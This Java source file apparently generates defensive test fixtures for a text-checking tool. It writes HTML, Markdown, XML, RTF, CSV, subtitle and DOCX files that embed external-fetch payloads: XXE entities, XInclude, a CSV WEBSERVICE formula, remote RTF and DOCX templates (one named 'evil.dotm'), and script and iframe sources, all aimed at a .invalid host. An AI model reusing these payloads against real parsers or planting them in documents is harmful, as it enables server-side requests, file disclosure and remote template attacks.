package dev.medlint.program;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that invite a reader to fetch something: each names a host that nobody has. */
final class HostileFiles {

  private static final String HOST = "http://medlint.invalid/";

  private static final String BREACH = "После курса я вылечилась от гастрита за неделю.";

  private static final String DTD =
      "<?xml version=\"1.0\"?><!DOCTYPE %1$s PUBLIC \"-//X//Y\" \""
          + HOST
          + "x.dtd\" [<!ENTITY far SYSTEM \""
          + HOST
          + "far.txt\"><!ENTITY %% more SYSTEM \""
          + HOST
          + "more.dtd\"> %%more;]>";

  private HostileFiles() {}

  /** Writes all of them into a folder. */
  static void write(Path folder) throws IOException {
    Files.createDirectories(folder);
    text(folder, "page.html", html());
    text(
        folder,
        "page.md",
        "# Отзыв\n\n![рисунок](%1$sa.png) [ссылка](%1$sb)\n\n<iframe src='%1$sc'></iframe>\n\n%2$s\n"
            .formatted(HOST, BREACH));
    text(
        folder,
        "wordpress.xml",
        dtd("rss")
            + "<rss version=\"2.0\" xmlns:wp=\"http://wordpress.org/export/1.2/\""
            + " xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel>"
            + "<wp:wxr_version>1.2</wp:wxr_version><item><title>&far;</title><content:encoded>"
            + BREACH
            + "</content:encoded></item></channel></rss>");
    text(
        folder,
        "commerce.xml",
        dtd("КоммерческаяИнформация")
            + "<КоммерческаяИнформация xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include"
            + " href=\""
            + HOST
            + "x\"/><Товар><Наименование>&far;</Наименование><Описание>"
            + BREACH
            + "</Описание></Товар></КоммерческаяИнформация>");
    text(
        folder,
        "flat.fodt",
        dtd("office:document")
            + "<office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
            + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
            + " office:mimetype=\"application/vnd.oasis.opendocument.text\"><office:body>"
            + "<office:text><text:p>&far;"
            + BREACH
            + "</text:p></office:text></office:body></office:document>");
    text(
        folder,
        "mail.eml",
        "From: a@medlint.invalid\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html;"
            + " charset=utf-8\r\n\r\n"
            + html());
    text(
        folder,
        "draft.rtf",
        "{\\rtf1\\ansi{\\*\\template "
            + HOST
            + "t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE \""
            + HOST
            + "p.png\"}{\\fldrslt x}} Lechim.}");
    text(folder, "sheet.csv", "Текст\n\"=WEBSERVICE(\"\"" + HOST + "\"\")\"\n" + BREACH + "\n");
    text(
        folder,
        "film.srt",
        "1\n00:00:01,000 --> 00:00:02,000\n<img src=\"" + HOST + "i\"> " + BREACH + "\n");
    docx(folder.resolve("draft.docx"), "");
    docx(folder.resolve("entities.docx"), dtd("w:document"));
  }

  private static String html() {
    return ("<!DOCTYPE html PUBLIC \"-//X//Y\" \"%1$sx.dtd\" [<!ENTITY far SYSTEM \"%1$sf\">]>\n"
            + "<html><head><base href=\"%1$s\"><meta http-equiv=\"refresh\" content=\"0; url=%1$s\">"
            + "<link rel=\"stylesheet\" href=\"%1$ss.css\"><script src=\"%1$sj.js\"></script>"
            + "<script type=\"application/ld+json\">{\"@context\":\"%1$sld\",\"@type\":\"Article\","
            + "\"author\":{\"@id\":\"%1$sme\"}}</script></head><body><img src=\"%1$si.png\">"
            + "<iframe src=\"%1$sframe\"></iframe><object data=\"%1$so\"></object>"
            + "<p>&far; %2$s</p></body></html>\n")
        .formatted(HOST, BREACH);
  }

  private static String dtd(String root) {
    return DTD.formatted(root);
  }

  private static void docx(Path file, String dtd) throws IOException {
    String types = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    String relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    String kinds = "http://schemas.openxmlformats.org/package/2006/";
    String external =
        "<Relationship Id=\"%s\" Type=\""
            + relations
            + "/%s\" Target=\""
            + HOST
            + "%s\" TargetMode=\"External\"/>";
    try (OutputStream out = Files.newOutputStream(file);
        ZipOutputStream zip = new ZipOutputStream(out)) {
      entry(
          zip,
          "[Content_Types].xml",
          "<Types xmlns=\""
              + kinds
              + "content-types\"><Default Extension=\"rels\" ContentType=\""
              + "application/vnd.openxmlformats-package.relationships+xml\"/><Override PartName=\""
              + "/word/document.xml\" ContentType=\""
              + types
              + "document.main+xml\"/></Types>");
      entry(
          zip,
          "_rels/.rels",
          "<Relationships xmlns=\""
              + kinds
              + "relationships\"><Relationship Id=\"r1\" Type=\""
              + relations
              + "/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
      entry(
          zip,
          "word/_rels/document.xml.rels",
          "<Relationships xmlns=\""
              + kinds
              + "relationships\">"
              + external.formatted("r1", "attachedTemplate", "evil.dotm")
              + external.formatted("r2", "image", "i.png")
              + external.formatted("r3", "aFChunk", "chunk.html")
              + external.formatted("r4", "styles", "styles.xml")
              + "</Relationships>");
      entry(
          zip,
          "word/document.xml",
          dtd
              + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
              + "\" xmlns:r=\""
              + relations
              + "\"><w:body><w:altChunk r:id=\"r3\"/><w:p><w:r><w:t>"
              + (dtd.isEmpty() ? "" : "&far;")
              + BREACH
              + "</w:t></w:r></w:p></w:body></w:document>");
    }
  }

  private static void entry(ZipOutputStream zip, String name, String content) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(content.getBytes(StandardCharsets.UTF_8));
    zip.closeEntry();
  }

  private static void text(Path folder, String name, String content) throws IOException {
    Files.writeString(folder.resolve(name), content, StandardCharsets.UTF_8);
  }
}
